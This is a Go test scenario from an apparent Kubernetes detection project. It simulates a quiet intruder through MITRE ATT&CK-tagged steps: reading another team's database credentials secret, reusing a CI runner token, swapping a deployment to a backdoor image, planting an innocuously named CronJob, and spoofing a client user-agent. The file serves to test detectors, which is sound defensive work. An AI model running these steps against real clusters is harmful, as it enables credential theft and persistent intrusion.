package play

import (
	"time"

	"github.com/lynceus-io/lynceus/test/scenarios/stage"
)

// Quiet is an intruder who takes care: uses accounts where they belong, programs that they use anyway, one request
// where others take twenty, and waits in between, while people and pipelines work.
func Quiet(s *stage.Stage) {
	c := Found(s)
	c.Mira.MustApply(clusterAccount("data", "notebook", `[{apiGroups: [""], resources: [pods, secrets], verbs: [get, list]}, {apiGroups: [batch], resources: [cronjobs], verbs: [get, create, patch]}]`), "apply", "-f", "-")
	notebook := s.Pod("data", "app=notebook")
	together(s, developer(s, c.Jonas, "shop", "web"), developer(s, c.Li, "data", "notebook"), runner(s), func(func() bool) {
		quietly(s, c, notebook)
	})
}

func quietly(s *stage.Stage, c *Company, notebook *stage.Pod) {
	const client = "OpenAPI-Generator/31.0.0/python" // what a notebook's own library calls itself
	thief := notebook.ServiceAccount()
	pause := func() { s.Sleep(5 * time.Second) }

	pause()
	s.Attack("T1613", "Discovery: Access Kubernetes API server", "in the notebook, lists the pods of another team").
		As(thief).Do(func(a *stage.Act) { a.Request(client, "GET", "/api/v1/namespaces/payments/pods?limit=20", "") })
	pause()
	s.Attack("T1552.007", "Credential Access: List Kubernetes secrets", "reads a single secret of another team by its name").
		As(thief).Do(func(a *stage.Act) {
		a.Request(client, "GET", "/api/v1/namespaces/payments/secrets/db-credentials", "")
	})
	pause()
	runner := s.Pod("ci", "app=runner")
	pipeline := s.Bearer(notebook, runner.Token(), runner)
	s.Attack("T1550.001", "Lateral Movement: Container service account", "uses the token of "+runner.String()+" from the notebook, as the pipeline would").
		As(pipeline).Do(func(a *stage.Act) { a.Kubectl("-n", "shop", "get", "deploy") })
	pause()
	s.Attack("T1525", "Persistence: Backdoor container", "has the pipeline's account bring another image to shop/cart").
		As(pipeline).Do(func(a *stage.Act) {
		a.Must("-n", "shop", "set", "image", "deploy/cart", "cart="+imageWebBackdoor)
	})
	pause()
	s.Attack("T1053.007", "Persistence: Kubernetes CronJob", "makes a CronJob with an ordinary name, image and command").
		As(thief).Do(func(a *stage.Act) {
		a.Request(client, "POST", "/apis/batch/v1/namespaces/data/cronjobs", `{"apiVersion":"batch/v1","kind":"CronJob","metadata":{"name":"warehouse-vacuum"},"spec":{"schedule":"17 3 * * *","jobTemplate":{"spec":{"template":{"spec":{"restartPolicy":"Never","serviceAccountName":"notebook","containers":[{"name":"main","image":"`+imageETL+`","command":["app","serve"]}]}}}}}}`)
	})
	pause()
	// The laptop itself: a person's credential from the person's own address.
	s.Attack("T1552.007", "Credential Access: List Kubernetes secrets", "on a developer's own machine, reads her team's secrets with her kubeconfig").
		As(c.Anna).Do(func(a *stage.Act) { a.Kubectl("-n", "payments", "get", "secrets", "-o", "json") })
}
